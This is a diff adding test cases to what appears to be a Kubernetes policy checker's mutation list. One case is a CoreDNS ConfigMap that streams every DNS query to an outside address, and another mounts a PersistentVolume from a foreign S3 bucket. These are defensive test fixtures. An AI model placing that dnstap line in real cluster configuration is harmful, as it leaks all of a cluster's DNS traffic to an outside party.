@@ -208,6 +208,23 @@ MUTATIONS = (
         ),
     ),
     opens(
+        "a CoreDNS file that tells somebody outside of every question",
+        "CN-157",
+        an_object(
+            "kubernetes:core/v1:ConfigMap",
+            metadata={"name": "coredns"},
+            data={"Corefile": ".:53 {\n  dnstap tcp://203.0.113.9:6000 full\n}"},
+        ),
+    ),
+    opens(
+        "a volume that is somebody's bucket",
+        "CN-004",
+        an_object(
+            "kubernetes:core/v1:PersistentVolume",
+            spec={"csi": {"driver": "s3.csi.aws.com", "volumeAttributes": {"bucketName": "it"}}},
+        ),
+    ),
+    opens(
         "a node class with public addresses",
         "CN-158",
         an_object(NODE_CLASS, spec={"associatePublicIPAddress": True}),
